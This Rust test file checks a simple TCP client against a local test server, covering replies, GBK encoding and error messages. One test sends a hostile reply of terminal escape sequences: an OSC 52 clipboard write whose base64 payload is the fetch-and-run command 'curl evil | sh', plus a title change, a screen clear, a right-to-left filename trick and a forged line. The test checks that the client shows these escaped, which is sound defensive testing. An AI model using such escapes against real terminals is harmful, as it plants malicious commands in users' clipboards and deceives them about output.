//! 05-tcp-client against a TCP server of the test's own.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use testkit::{cmd, run, Proc};

const BIN: &str = env!("CARGO_BIN_EXE_05-tcp-client");

fn listener() -> (TcpListener, String) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap().to_string();
    (listener, addr)
}

fn read_some(stream: &mut TcpStream) -> Vec<u8> {
    let mut buf = [0; 1024];
    let len = stream.read(&mut buf).unwrap();
    buf[..len].to_vec()
}

#[test]
fn sends_each_line_and_shows_each_reply() {
    let (listener, addr) = listener();
    let mut client = Proc::start(cmd(BIN, &[&addr]));
    let (mut conn, _) = listener.accept().unwrap();
    assert_eq!(client.line(), format!("connected to {addr}"));
    client.send_line("hello");
    assert_eq!(read_some(&mut conn), b"hello");
    conn.write_all(b"received: hello").unwrap();
    client.expect("reply: received: hello");
    client.send_line(""); // an empty line sends nothing and waits for nothing
    client.send_line("again");
    assert_eq!(read_some(&mut conn), b"again");
    conn.write_all("收到".as_bytes()).unwrap();
    client.expect("reply: 收到");
    client.send_line("exit");
    assert!(client.finish().0.success());
    assert_eq!(read_some(&mut conn), b"", "the client closed its socket");
}

#[test]
fn gbk_on_the_wire() {
    let (listener, addr) = listener();
    let mut client = Proc::start(cmd(BIN, &[&addr, "--encoding", "gbk"]));
    let (mut conn, _) = listener.accept().unwrap();
    client.send_line("你好");
    assert_eq!(read_some(&mut conn), b"\xc4\xe3\xba\xc3");
    conn.write_all(b"\xca\xd5\xb5\xbd").unwrap(); // 收到 in GBK
    client.expect("reply: 收到");
}

/// A server's reply full of terminal escapes is shown escaped, on one
/// line: no clipboard write (OSC 52), no window title, no cleared screen,
/// no text reversed by U+202E, no forged line.
#[test]
fn terminal_escapes_in_a_reply_are_shown_escaped() {
    let (listener, addr) = listener();
    let mut client = Proc::start(cmd(BIN, &[&addr]));
    let (mut conn, _) = listener.accept().unwrap();
    client.send_line("hello");
    assert_eq!(read_some(&mut conn), b"hello");
    let hostile = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\x1b[2J\
                   \u{202e}gpj.exe\nreply: forged";
    conn.write_all(hostile.as_bytes()).unwrap();
    let shown = client.expect("reply: ");
    assert_eq!(
        shown.trim_start_matches("data to send: "),
        concat!(
            r"reply: \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07",
            r"\x1b[2J\u{202e}gpj.exe\nreply: forged"
        )
    );
    client.send_line("exit");
    assert!(client.finish().0.success());
}

#[test]
fn server_closing_ends_the_client_with_a_clear_error() {
    let (listener, addr) = listener();
    let mut client = Proc::start(cmd(BIN, &[&addr]));
    let (mut conn, _) = listener.accept().unwrap();
    client.send_line("hello");
    assert_eq!(read_some(&mut conn), b"hello");
    drop(conn);
    let (status, _, stderr) = client.finish();
    assert_eq!(status.code(), Some(1));
    assert!(
        stderr.contains("the server closed the connection"),
        "{stderr}"
    );
}

#[test]
fn refused_connection_is_one_line_naming_the_server() {
    let (listener, addr) = listener();
    drop(listener);
    let (status, _, stderr) = run(cmd(BIN, &[&addr]), b"");
    assert_eq!(status.code(), Some(1));
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains(&format!("Error: {addr}: Connection refused")));
    assert!(stderr.contains("refused"), "{stderr}");
}

#[test]
fn unknown_host_is_one_line_exit_1() {
    let (status, _, stderr) =
        run(cmd(BIN, &["no-such-host.invalid:7788"]), b"");
    assert_eq!(status.code(), Some(1));
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains("no-such-host.invalid:7788"), "{stderr}");
}

#[test]
fn host_name_and_bare_port_are_accepted() {
    let (listener, addr) = listener();
    let port = addr.rsplit_once(':').unwrap().1;
    for server in [format!("localhost:{port}"), port.to_string()] {
        let mut client = Proc::start(cmd(BIN, &[&server]));
        let (mut conn, _) = listener.accept().unwrap();
        client.send_line("hi");
        assert_eq!(read_some(&mut conn), b"hi");
    }
}
